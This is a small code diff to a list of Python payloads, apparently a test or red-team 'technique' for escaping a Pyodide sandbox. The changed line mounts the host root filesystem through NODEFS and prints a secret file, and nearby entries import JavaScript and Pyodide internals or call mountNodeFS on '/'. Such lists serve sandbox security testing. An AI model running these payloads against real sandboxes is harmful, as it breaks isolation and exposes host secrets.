@@ -33,7 +33,7 @@ export const JAVASCRIPT: Technique = {
           "from js import WebAssembly",
           "import js.globalThis",
           "import pyodide_js",
-          "import os, js, pyodide_js\nfrom pyodide.ffi import to_js\nFS = pyodide_js._module.FS\nos.makedirs('/mnt/host')\nFS.mount(FS.filesystems.NODEFS, to_js({'root': '/'}, dict_converter=js.Object.fromEntries), '/mnt/host')\nprint(open('/mnt/host' + secret_file).read())",
+          "import os, js, pyodide_js\nfrom pyodide.ffi import to_js\nFS = pyodide_js._module.FS\nos.makedirs('/host')\nFS.mount(FS.filesystems.NODEFS, to_js({'root': '/'}, dict_converter=js.Object.fromEntries), '/host')\nprint(open('/host' + secret_file).read())",
           "from pyodide_js import _api",
           "from pyodide_js._module import FS",
           "import pyodide_js\npyodide_js.mountNodeFS('/mnt', '/')",
